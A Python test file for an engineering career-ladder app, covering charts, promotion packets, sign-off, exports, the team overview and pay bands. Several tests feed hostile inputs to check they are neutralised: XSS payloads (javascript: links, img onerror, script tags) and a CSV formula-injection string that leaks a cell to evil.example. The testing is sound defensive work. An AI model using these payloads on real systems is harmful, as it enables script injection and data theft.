"""Charts, team overview, promotion packet, exports, one's record, and pay bands."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from datetime import date

from helpers import HX, open_rubric, rate, sign_in
from sqlalchemy import select

from app.evidence.models import Evidence
from app.extensions import db
from app.history.models import Event

SVG = "{http://www.w3.org/2000/svg}"


def svg_of(html: str, css_class: str) -> ET.Element:
    markup = re.search(rf'<svg class="chart {css_class}".*?</svg>', html, re.S).group(0)
    return ET.fromstring(markup.replace("<svg ", '<svg xmlns="http://www.w3.org/2000/svg" ', 1))


def polygon(root: ET.Element, css_class: str) -> list[tuple[float, float]]:
    node = root.find(f"{SVG}polygon[@class='{css_class}']")
    return [tuple(map(float, p.split(","))) for p in node.get("points").split()]


def test_radar_has_an_axis_per_category_and_both_series(pair):
    engineer, manager, rubric_id, ids = pair
    for key in ("code-junior-1", "code-junior-2"):
        rate(engineer, rubric_id, ids[key], "consistently")
    rate(manager, rubric_id, ids["team-junior-1"], "consistently")
    html = engineer.get(f"/rubrics/{rubric_id}").get_data(as_text=True)
    root = svg_of(html, "radar")
    assert root.find(f"{SVG}title").text == "Level by category"
    assert "You and Manager (Maya Manager)" in root.find(f"{SVG}desc").text
    labels = [t.text for t in root.findall(f"{SVG}text")]
    assert labels == ["Code", "Teamwork"]
    spokes = root.find(f"{SVG}path[@class='axis']").get("d")
    assert spokes == "M0,0L0,-100 M0,0L0,100"  # one spoke per category
    mine, theirs = polygon(root, "series-mine"), polygon(root, "series-theirs")
    # Code (the first axis, pointing up) reached level 1 of 2: half the radius, upwards.
    assert mine[0] == (0.0, -50.0) and mine[1] == (0.0, 0.0)
    assert theirs == [(0.0, 0.0), (0.0, 0.0)]
    table = html[html.index('<table class="chart-table">') :]
    assert '<th scope="row">Code</th><td>Junior</td><td>No level yet</td>' in table


def test_rating_sends_the_radar_only_when_a_level_moves(pair):
    engineer, _, rubric_id, ids = pair
    first = rate(engineer, rubric_id, ids["code-junior-1"], "consistently")
    assert 'id="radar" hx-swap-oob' not in first.get_data(as_text=True)
    assert "HX-Trigger" not in first.headers
    second = rate(engineer, rubric_id, ids["code-junior-2"], "consistently")
    html = second.get_data(as_text=True)
    assert '<figure id="radar" hx-swap-oob="innerHTML">' in html
    assert second.headers["HX-Trigger"] == "rungs:levels"
    steps = engineer.get(f"/rubrics/{rubric_id}/charts", headers=HX).get_data(as_text=True)
    root = svg_of(steps, "steps")
    assert root.find(f"{SVG}title").text == "Levels over time"
    series = {p.get("data-series") for p in root.findall(f"{SVG}path")}
    assert series == {"Overall", "Code", "Teamwork"}


def test_packet_shows_both_ratings_shared_evidence_and_missing(app, pair, people):
    engineer, manager, rubric_id, ids = pair
    cid = ids["code-mid-1"]
    rate(engineer, rubric_id, cid, "consistently")
    rate(manager, rubric_id, cid, "sometimes")
    for body, private in (("Led the **migration**", ""), ("my private doubt", "y")):
        engineer.post(
            f"/rubrics/{rubric_id}/competencies/{cid}/evidence",
            data={"body": body, "day": "2026-11-02", "private": private},
        )
    page = manager.get(f"/rubrics/{rubric_id}/packet?target=mid").get_data(as_text=True)
    assert (
        "Promotion packet: Eli Engineer" in page
        and "<dt>Target level</dt><dd>Mid-level</dd>" in page
    )
    assert "own rating: <strong>Consistently</strong> · manager: <strong>Sometimes</strong>" in page
    assert "<strong>migration</strong>" in page and "private doubt" not in page
    assert "Still open" in page and "Teamwork at Mid-level #1" in page
    markdown = manager.get(f"/rubrics/{rubric_id}/packet.md?target=mid")
    text = markdown.get_data(as_text=True)
    assert (
        markdown.headers["Content-Disposition"] == 'attachment; filename="promotion-packet-mid.md"'
    )
    assert text.startswith("# Promotion packet: Eli Engineer\n")
    assert "2026-11-02, Eli Engineer: Led the **migration**" in text and "private doubt" not in text


def test_only_the_manager_signs_off_and_it_is_in_history(app, pair, people):
    engineer, manager, rubric_id, _ = pair
    data = {"target": "mid", "date": "2026-11-26", "comment": "Ready for Mid-level", "confirm": "y"}
    assert engineer.post(f"/rubrics/{rubric_id}/packet/signoff", data=data).status_code == 404
    assert manager.post(f"/rubrics/{rubric_id}/packet/signoff", data=data).status_code == 303
    page = engineer.get(f"/rubrics/{rubric_id}/packet?target=mid").get_data(as_text=True)
    assert 'by <strong>Maya Manager</strong> on <time datetime="2026-11-26">' in page
    assert "<p>Ready for Mid-level</p>" in page
    history = engineer.get(f"/rubrics/{rubric_id}/history").get_data(as_text=True)
    assert "signed off the promotion packet for Mid-level" in history
    with app.app_context():
        event = db.session.scalar(select(Event).where(Event.kind == "signoff"))
        assert event.actor_id == people.manager.id


def test_a_refused_sign_off_keeps_the_typed_comment(pair):
    _, manager, rubric_id, _ = pair
    typed = "Ready, see [the doc](javascript:alert(1)) and the launch notes"
    refused = manager.post(
        f"/rubrics/{rubric_id}/packet/signoff",
        data={"target": "mid", "date": "not a day", "comment": typed},
    )
    assert refused.status_code == 422
    html = refused.get_data(as_text=True)
    assert "Give the date as a day between 1970 and 2100." in html
    assert "Links must start with" in html
    assert "Ready, see [the doc](javascript:alert(1)) and the launch notes</textarea>" in html


def test_packet_markdown_carries_no_raw_html_or_script_links(app, pair, people):
    engineer, manager, rubric_id, ids = pair
    cid = ids["code-junior-1"]
    body = 'Shipped <img src=x onerror="alert(1)"> and <script>alert(2)</script> it'
    added = engineer.post(
        f"/rubrics/{rubric_id}/competencies/{cid}/evidence",
        data={"body": body, "day": "2026-11-20"},
    )
    assert added.status_code == 303
    with app.app_context():  # as a row written before links were checked, or by another tool
        db.session.add(
            Evidence(
                rubric_id=rubric_id,
                competency_id=cid,
                author_id=people.engineer.id,
                body="[proof](javascript:alert(3)) and [ref][r]\n\n[r]: javascript:alert(4)",
                day=date(2026, 11, 21),
            )
        )
        db.session.commit()
    text = engineer.get(f"/rubrics/{rubric_id}/packet.md?target=junior").get_data(as_text=True)
    assert "Shipped &lt;img" in text and "&lt;script>alert(2)" in text
    assert "<img" not in text and "<script" not in text
    assert "javascript:" not in text.lower()
    assert "[proof](#)" in text


def test_exports_parse_back_to_the_rubric(pair):
    engineer, manager, rubric_id, ids = pair
    rate(engineer, rubric_id, ids["code-junior-1"], "sometimes")
    rate(manager, rubric_id, ids["code-junior-1"], "consistently")
    rows = list(
        csv.DictReader(
            io.StringIO(engineer.get(f"/rubrics/{rubric_id}/export.csv").get_data(as_text=True))
        )
    )
    assert len(rows) == len(ids)
    first = next(r for r in rows if r["key"] == "code-junior-1")
    assert (first["self"], first["manager"], first["level"], first["category"]) == (
        "sometimes",
        "consistently",
        "Junior",
        "Code",
    )
    data = json.loads(engineer.get(f"/rubrics/{rubric_id}/export.json").get_data(as_text=True))
    assert data["person"] == "Eli Engineer" and data["track"] == "ic"
    assert {c["key"]: c["self"] for c in data["competencies"]}["code-junior-1"] == "sometimes"
    assert [c["key"] for c in data["competencies"]] == [r["key"] for r in rows]


def test_record_zip_holds_own_private_notes_but_nobody_elses(pair):
    engineer, manager, rubric_id, ids = pair
    cid = ids["team-junior-1"]
    engineer.post(
        f"/rubrics/{rubric_id}/competencies/{cid}/evidence",
        data={"body": "mine, private", "day": "2026-11-01", "private": "y"},
    )
    manager.post(
        f"/rubrics/{rubric_id}/competencies/{cid}/evidence",
        data={"body": "manager secret", "day": "2026-11-01", "private": "y"},
    )
    manager.post(
        f"/rubrics/{rubric_id}/competencies/{cid}/evidence",
        data={"body": "manager shared", "day": "2026-11-01"},
    )
    meeting = manager.post(f"/rubrics/{rubric_id}/1on1s").headers["Location"].rsplit("/", 1)[1]
    manager.post(f"/1on1s/{meeting}/notes", data={"notes": "We agreed on a plan", "version": "0"})
    response = engineer.get("/me/record.zip")
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    everything = "".join(archive.read(n).decode() for n in archive.namelist())
    assert set(archive.namelist()) >= {
        "README.md",
        "small/ratings.json",
        "small/evidence.json",
        "small/history.json",
        "small/one-on-ones.md",
    }
    assert "mine, private" in everything and "manager shared" in everything
    assert "manager secret" not in everything
    assert "We agreed on a plan" in everything


def test_team_overview_heatmap_sorts_and_shows_shared_gaps(app, pair, people):
    engineer, manager, rubric_id, ids = pair
    with app.app_context():
        from app.auth.models import User

        other = db.session.get(User, people.other_engineer.id)
        other.manager_id = people.manager.id
        db.session.commit()
    second = app.test_client()
    sign_in(second, people.other_engineer)
    other_rubric, _ = open_rubric(second)
    for key in ("code-junior-1", "code-junior-2"):
        rate(second, other_rubric, ids[key], "consistently")
    page = manager.get("/team/overview?sort=code&dir=desc").get_data(as_text=True)
    names = re.findall(r'<th scope="row"><a href="/rubrics/\d+">([^<]+)</a>', page)
    assert names == ["Olga Other", "Eli Engineer"]
    assert 'aria-sort="descending"' in page
    assert '<td class="heat heat-1">Junior</td>' in page
    assert "missing for 2: " in page  # a Junior competency both still miss
    assert engineer.get("/team/overview").status_code == 404


def test_pay_bands_are_off_by_default_and_respect_visibility(app, client, people, pair):
    engineer, _, rubric_id, _ = pair
    admin = app.test_client()
    sign_in(admin, people.admin)
    bands = {"band-junior": "£40,000–£50,000", "band-mid": "£55,000–£65,000"}
    assert "£40,000" not in engineer.get(f"/rubrics/{rubric_id}").get_data(as_text=True)
    admin.post("/admin/pay/small", data={"visibility": "admins", **bands})
    assert "£40,000–£50,000" not in engineer.get(f"/rubrics/{rubric_id}").get_data(as_text=True)
    assert "£40,000–£50,000" not in engineer.get("/ladders/small").get_data(as_text=True)
    assert "£40,000–£50,000" in admin.get("/ladders/small").get_data(as_text=True)
    admin.post("/admin/pay/small", data={"visibility": "everyone", **bands})
    assert "Pay band: £55,000–£65,000" in engineer.get(f"/rubrics/{rubric_id}").get_data(
        as_text=True
    )
    assert engineer.post("/admin/pay/small", data={"visibility": "off"}).status_code == 404


def test_the_rubric_csv_quotes_cells_a_spreadsheet_would_run_as_formulas(app, people):
    """OWASP CSV injection: a title beginning with = + - @ is written after a ' ."""
    from dataclasses import replace

    from helpers import open_rubric, sign_in, small_ladder

    from app.ladders import store

    spec = small_ladder()
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    first = replace(spec.competencies[0], title=evil)
    second = replace(spec.competencies[1], title="-2+3")
    spec = replace(spec, competencies=(first, second, *spec.competencies[2:]))
    with app.app_context():
        store.save(spec)
        db.session.commit()
    engineer = app.test_client()
    sign_in(engineer, people.engineer)
    rubric_id, _ = open_rubric(engineer)
    text = engineer.get(f"/rubrics/{rubric_id}/export.csv").get_data(as_text=True)
    titles = {r["key"]: r["competency"] for r in csv.DictReader(io.StringIO(text))}
    assert titles[first.key] == "'" + evil
    assert titles[second.key] == "'-2+3"
